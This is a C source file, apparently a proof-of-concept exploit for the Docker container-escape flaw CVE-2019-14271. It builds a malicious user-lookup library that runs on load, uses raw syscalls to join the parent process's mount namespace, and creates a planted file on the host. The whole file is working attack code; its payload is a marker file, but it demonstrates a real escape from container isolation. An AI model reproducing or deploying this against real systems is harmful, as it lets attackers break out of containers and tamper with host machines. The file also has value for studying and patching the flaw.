/*
 * CVE-2019-14271: a module of the C library for looking users up. Whoever loads it, in this container's root, is taken back to
 * the root of the process that started it, and makes the file PLANTED there. Has no library of its own, to be loaded anywhere.
 */
#include <fcntl.h>
#include <sched.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c) {
  long result;
  register long d __asm__("r10") = 0600;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(d) : "rcx", "r11", "memory");
  return result;
}

__attribute__((constructor)) static void loaded(void) {
  long parent = call(SYS_pidfd_open, call(SYS_getppid, 0, 0, 0), 0, 0);
  call(SYS_setns, parent, CLONE_NEWNS, 0);
  call(SYS_openat, AT_FDCWD, (long)PLANTED, O_CREAT | O_WRONLY);
}
